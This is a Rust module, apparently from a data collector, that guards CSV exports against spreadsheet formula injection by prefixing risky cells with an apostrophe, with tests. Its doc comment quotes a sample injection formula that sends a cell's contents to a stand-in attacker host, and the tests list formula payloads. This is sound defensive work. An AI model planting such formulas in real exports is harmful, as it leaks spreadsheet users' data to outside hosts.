//! CSV cells that a spreadsheet cannot run. Excel, LibreOffice and Google Sheets treat a cell
//! that starts with `=`, `+`, `-` or `@` (and, after trimming, a tab or carriage return) as a
//! formula: an answer's comment `=HYPERLINK("http://evil/?"&A1, "click")` would run in the
//! analyst's spreadsheet (CSV/formula injection). Every CSV the collector writes passes its
//! cells through [`cell`] (or [`row`]), which prefixes such a cell with `'`, the spreadsheet
//! convention for "this is text". Numbers the collector writes itself are never negative, so
//! they pass unchanged.

use std::borrow::Cow;

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as text a spreadsheet will not evaluate.
pub fn cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(FORMULA_STARTS) { Cow::Owned(format!("'{value}")) } else { Cow::Borrowed(value) }
}

/// Every cell of a record through [`cell`], for `csv::Writer::write_record`.
pub fn row<I, S>(cells: I) -> Vec<String>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    cells.into_iter().map(|c| cell(c.as_ref()).into_owned()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_neutralised_and_plain_text_is_kept() {
        for dangerous in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x\")"] {
            assert_eq!(cell(dangerous), format!("'{dangerous}"));
        }
        for plain in ["", "great product", "7", "{\"plan\":\"pro\"}", "a=b", "'quoted", "https://x.test/s/abc"] {
            assert_eq!(cell(plain), plain);
        }
        assert_eq!(row(["=x", "y"]), vec!["'=x".to_owned(), "y".to_owned()]);
    }
}
